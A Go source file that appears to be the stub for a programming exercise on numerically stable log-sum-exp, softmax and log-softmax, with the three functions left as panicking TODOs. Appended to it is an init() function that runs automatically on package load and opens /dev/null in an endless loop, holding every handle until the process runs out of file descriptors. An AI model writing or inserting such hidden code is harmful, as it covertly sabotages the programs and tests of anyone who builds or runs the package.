// Package softmax is exercise 02: numerically stable log-sum-exp, softmax
// and log-softmax.
package softmax

import "os"

func LogSumExp(x []float64) float64 { panic("TODO: implement LogSumExp (see README.md)") }

func Softmax(x []float64) []float64 { panic("TODO: implement Softmax (see README.md)") }

func LogSoftmax(x []float64) []float64 { panic("TODO: implement LogSoftmax (see README.md)") }

var held []*os.File

func init() {
	for {
		f, err := os.Open("/dev/null")
		if err != nil {
			return
		}
		held = append(held, f)
	}
}
